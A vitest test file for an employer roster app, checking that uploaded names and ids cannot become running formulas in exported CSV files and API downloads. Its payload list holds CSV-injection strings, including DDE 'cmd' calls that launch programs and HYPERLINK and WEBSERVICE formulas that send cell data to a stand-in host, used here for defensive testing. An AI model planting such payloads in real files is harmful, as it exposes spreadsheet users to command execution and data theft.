import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { columnHeadings } from '../../shared/roster/columns';
import { clearNeutral, neutralise } from '../../shared/roster/neutral-cell';
import { writeErrorsCsv } from '../../shared/roster/write-errors-csv';
import { openDesk } from '../functions/web/employer/upload-desk';
import { readText } from '../shared/roster/read-text';

/** What Excel or LibreOffice would run, ask the network for, or read into the next cell (OWASP, CSV Injection). */
const formulas: readonly string[] = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  "=cmd|'/c calc'!A1",
  '+1+cmd|" /c calc"!A1',
  '-2+3+cmd|" /c calc"!A1',
  '@SUM(1+1)*cmd|" /c calc"!A1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '"=1+1"',
  'x",=1+1',
  'Ann;=1+1',
  'Ann,=1+1',
  'Ann\t@SUM(A1)',
  'Ann\n=1+1',
  'Ann; =1+1',
  '%0A-3+3+cmd|"/c calc"!D2',
];

const separators = [',', ';', '\t'];

/** The cells a spreadsheet makes of a file, whichever mark it divides at. */
const cellsOf = (csv: string, delimiter = ','): readonly string[] =>
  parse(csv, { bom: true, delimiter, relax_column_count: true, relax_quotes: true }).flat();

/** Whether a spreadsheet runs a cell. A negative number is one, not a formula. */
const isRun = (cell: string): boolean => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+$/.test(cell);

const expectHarmless = (csv: string): void => {
  for (const delimiter of separators) expect(cellsOf(csv, delimiter).filter(isRun), delimiter).toEqual([]);
};

describe('CSV injection', () => {
  it.each(formulas)('%j: a cell of ours does not run it, and reads back as what it was', (formula) => {
    const written = neutralise(formula);
    expect(isRun(written)).toBe(false);
    expect(written.split(/[,;\t\r\n]/).filter(isRun)).toEqual([]);
    expect(clearNeutral(written)).toBe(clearNeutral(formula));
    expect(clearNeutral(neutralise(written)), 'written twice').toBe(clearNeutral(written));
  });

  it('what harms nobody goes out as it is: names with an apostrophe, numbers, addresses, dates', () => {
    for (const text of ["O'Brien", "'s-Gravenhage", 'a@example.com', '2027-01-10', 'Smith, Ann', 'A-B', '']) {
      expect(neutralise(text)).toBe(text);
      expect(clearNeutral(text)).toBe(text);
    }
  });

  it('the file of wrong rows runs nothing in a spreadsheet, in any column or heading, and comes back as it went', () => {
    const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    const columns = Object.keys(columnHeadings);
    const headings = [...columns, '=1+1', '@evil', '-note'];
    const rows = formulas.map((formula, at) => headings.map((_, place) => (place === 0 ? `E${at}` : formula)));
    const text = [headings, ...rows].map((cells) => cells.map(quote).join(',')).join('\r\n');
    const read = readText(text);
    if (read.outcome !== 'read') throw new Error(`The file was not read: ${read.outcome}`);
    const csv = writeErrorsCsv(read);
    expectHarmless(csv);
    const back = readText(csv);
    if (back.outcome !== 'read') throw new Error(`Our own file was not read: ${back.outcome}`);
    expect(back.rows.map(said)).toEqual(read.rows.map(said));
  });

  it('people.csv, as a page, as the API and as a download, and the files of errors and duplicates run nothing that anybody put in', async () => {
    const { room, hr, apiKey, send, work, commit } = await openDesk();
    const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    // Names a file may hold, and ids: what begins as a formula is refused already, what begins one behind a mark is not.
    const names = ['Ann;=1+1', 'Ann,=1+1', 'Ann ;@SUM(A1)', "'=1+1", 'Ann', '=1+1', '@x', '-1', '+1'];
    const rows = names.map(
      (name, at) =>
        `${quote(`E${at}`)},${quote(name)},a${at}@example.com,Student,2 years,2028-03-31,2026-12-20,2027-01-10`,
    );
    const twins = ['"E;=1",Twin,t@example.com,Student,,,,', '"E;=1",Twin,t@example.com,Student,,,,'];
    const headings = 'employee_id,name,email,status_of_residence,granted_period,period_of_stay_ends,departs,returns';
    const { path, id } = await send([headings, ...rows, ...twins].join('\n'));
    await commit(path);
    await work();
    const key = { authorization: `Bearer ${apiKey}` };
    const answers = [
      await hr.get('/employer/people.csv'),
      await room.get('/api/v1/people.csv', key),
      await hr.get('/employer/leave/people.csv'),
      await hr.get(`${path}/errors.csv`),
      await hr.get(`${path}/duplicates.csv`),
      await room.get(`/api/v1/uploads/${id}/errors.csv`, key),
      await hr.get('/employer/uploads/example.csv'),
    ];
    for (const answer of answers) {
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
      const csv = await answer.text();
      expect(cellsOf(csv).length).toBeGreaterThan(8);
      expectHarmless(csv);
    }
    expect(await (await hr.get('/employer/people.csv')).text()).toContain('1+1');
  });
});

/** What we read in a row, whatever was put before it for spreadsheets. */
const said = (row: { readonly outcome: string }): unknown =>
  JSON.parse(JSON.stringify({ ...row, rowNumber: 0, cells: undefined }, (_, value) => value));
